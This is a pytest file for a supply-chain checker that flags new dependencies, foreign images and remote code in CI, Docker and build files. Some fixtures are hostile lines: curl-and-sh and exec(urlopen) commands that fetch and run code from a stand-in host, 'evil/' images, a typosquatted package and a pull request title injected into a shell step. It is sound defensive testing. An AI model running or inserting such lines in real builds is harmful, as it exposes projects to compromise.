"""Images, and packages that lines of CI, scripts and container files install beside every list."""

import pytest
from tree_evidence import permit, tree_evidence

from gatekeeper.checks.supply_chain import check

CI = "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: pip install -r requirements.txt\n"
DOCKER = "ARG VERSION=3.11\nFROM python:${VERSION} AS build\nRUN pip install -r requirements.txt\nFROM python:3.11-slim\nCOPY --from=build /app /app\n"
COMPOSE = "services:\n  db:\n    image: postgres:16\n"
REPO = {
    "requirements.txt": "requests\npytest\n",
    "pyproject.toml": '[project]\nname = "shop"\n',
    ".github/workflows/ci.yml": CI,
    "Dockerfile": DOCKER,
    "compose.yaml": COMPOSE,
    "ci/build.sh": "make\n",
    "Makefile": "all:\n\tpip install -e .\n",
    "README.md": "pip install spoken-of\n",
    "package.json": '{"dependencies": {"react": "1.0.0"}}',
}  # fmt: skip
WORKFLOW = ".github/workflows/ci.yml"


def step(line):
    return CI + f"      - run: {line}\n"


def told(path, after, **more):
    return [
        (f.code, f.effect.value)
        for f in check(tree_evidence(REPO, {path: after}, **more))
        if f.effect.value != "advises"
    ]


@pytest.mark.parametrize(
    ("path", "after", "code", "effect"),
    [
        ("Dockerfile", DOCKER.replace("python:3.11-slim", "evil/python:3.11"), "IMAGE_FOREIGN", "asks"),
        ("Dockerfile", DOCKER.replace("python:${", "ghcr.io/evil/python:${"), "IMAGE_FOREIGN", "asks"),
        ("Dockerfile", "ARG BASE=evil/python\n" + DOCKER.replace("python:3.11-slim", "${BASE}"), "IMAGE_FOREIGN", "asks"),
        ("Dockerfile", DOCKER.replace("--from=build", "--from=evil/tool"), "IMAGE_FOREIGN", "asks"),
        ("Dockerfile", DOCKER.replace("python:3.11-slim", "python"), "IMAGE_UNPINNED", "asks"),
        ("Dockerfile", DOCKER + "RUN pip install fast-cells\n", "DEPENDENCY_ADDED", "blocks"),
        ("Dockerfile", DOCKER + "RUN python -m pip install --no-cache-dir \\\n    -U fast-cells\n", "DEPENDENCY_ADDED", "blocks"),
        ("Dockerfile", DOCKER + "RUN npm install -g fast-cells\n", "DEPENDENCY_ADDED", "blocks"),
        ("Dockerfile", DOCKER + "RUN pip install -i https://e.example/simple requests\n", "DEPENDENCY_INDEX_ADDED", "asks"),
        ("Dockerfile", DOCKER + "RUN pip install git+https://e.example/r.git\n", "DEPENDENCY_DIRECT_SOURCE", "asks"),
        ("Dockerfile", DOCKER + "RUN curl -o /x https://e.example/x && sh /x\n", "DOWNLOAD_EXECUTED", "asks"),
        ("compose.yaml", COMPOSE.replace("postgres", "evil/postgres"), "IMAGE_FOREIGN", "asks"),
        (WORKFLOW, CI.replace("    runs-on", "    container: evil/image\n    runs-on"), "IMAGE_FOREIGN", "asks"),
        (WORKFLOW, step("docker run --rm -v $PWD:/w -e A=b evil/image:latest"), "IMAGE_FOREIGN", "asks"),
        (WORKFLOW, step("pip install fast-cells"), "DEPENDENCY_ADDED", "asks"),
        (WORKFLOW, step(">\n          pip install\n          fast-cells"), "DEPENDENCY_ADDED", "asks"),
        (WORKFLOW, step("uvx fast-cells check"), "DEPENDENCY_ADDED", "asks"),
        (WORKFLOW, step("uvx --from fast-cells ruff"), "DEPENDENCY_ADDED", "asks"),
        (WORKFLOW, step("npx fast-cells"), "DEPENDENCY_ADDED", "asks"),
        (WORKFLOW, step("go run e.example/x@latest"), "DEPENDENCY_ADDED", "asks"),
        (WORKFLOW, step("pipx run requestss"), "DEPENDENCY_ADDED", "blocks"),  # looks like another
        (WORKFLOW, step("GOPROXY=https://e.example go build"), "DEPENDENCY_INDEX_ADDED", "asks"),
        (WORKFLOW, step("npm ci --registry https://e.example"), "DEPENDENCY_INDEX_ADDED", "asks"),
        (WORKFLOW, step("python -c \"import urllib.request as u; exec(u.urlopen('https://e.example').read())\""), "DOWNLOAD_EXECUTED", "blocks"),
        (WORKFLOW, step('echo "${{ github.event.pull_request.title }}"'), "CI_SECRET_REACHED", "asks"),
        (WORKFLOW, CI + "      - uses: astral-sh/setup-uv@main\n", "CI_ACTION_UNPINNED", "blocks"),
        (WORKFLOW, CI + "      - uses: astra1-sh/setup-uv@v6\n", "CI_ACTION_FOREIGN", "asks"),
        ("ci/build.sh", "pip install fast-cells\nmake\n", "DEPENDENCY_ADDED", "asks"),
        ("Makefile", "all:\n\tpip install -i https://e.example/simple -e .\n", "DEPENDENCY_INDEX_ADDED", "asks"),
    ],
)  # fmt: skip
def test_what_newly_gets_run_is_seen(path, after, code, effect):
    assert told(path, after) == [(code, effect)]


@pytest.mark.parametrize(
    ("path", "after"),
    [
        ("Dockerfile", DOCKER.replace("3.11", "3.12")),
        ("Dockerfile", DOCKER.replace("python:3.11-slim", "python:3.12-slim@sha256:" + "1" * 64)),
        ("Dockerfile", DOCKER + "FROM build AS test\nRUN pip install shop requests==2.0 pytest && apt-get install -y git\n"),
        ("Dockerfile", DOCKER + "COPY --from=ghcr.io/astral-sh/uv:0.5 /uv /bin/\n"),
        ("compose.yaml", COMPOSE + "  cache:\n    image: redis:7\n  own:\n    build: .\n"),
        (WORKFLOW, CI.replace("    runs-on", "    container: node:20\n    runs-on")),
        (WORKFLOW, step("pip install ruff coverage[toml] tox-gh-actions 'spoken-of>=1' dist/*.whl")),
        (WORKFLOW, step("uvx ruff@0.5 check . && npx eslint . && npx react")),
        (WORKFLOW, step("python -m pip install --upgrade pip ${{ matrix.python-version }} $EXTRA")),
        (WORKFLOW, step("docker run --rm postgres:16")),
        (WORKFLOW, CI + "      - uses: astral-sh/setup-uv@v6\n"),
        (WORKFLOW, CI.replace("  t:\n", "  t:\n    if: github.event.pull_request.title != 'x'\n")),
        (WORKFLOW, step("go install golang" + ".org/x/tools/cmd/goimports@latest")),
        ("ci/build.sh", "# pip install fast-cells\nmake all\n"),
        ("Makefile", "all:\n\tpip install -e .[test] -r requirements.txt\n"),
    ],
)  # fmt: skip
def test_what_the_repository_or_everybody_uses_passes(path, after):
    assert told(path, after) == []


def test_a_permit_names_what_a_line_may_install():
    after = step("pip install fast-cells")
    assert told(WORKFLOW, after, permits=[permit("add_dependency", names=["fast-cells"])]) == []
    assert told(WORKFLOW, after, permits=[permit("add_dependency", names=["cells"])]) != []


def test_an_owner_whose_images_run_elsewhere_is_known():
    before = {**REPO, "deploy/Dockerfile": "FROM quay.io/team/base:1\n"}
    after = {"Dockerfile": DOCKER.replace("python:3.11-slim", "quay.io/team/app:2")}
    assert check(tree_evidence(before, after)) == ()
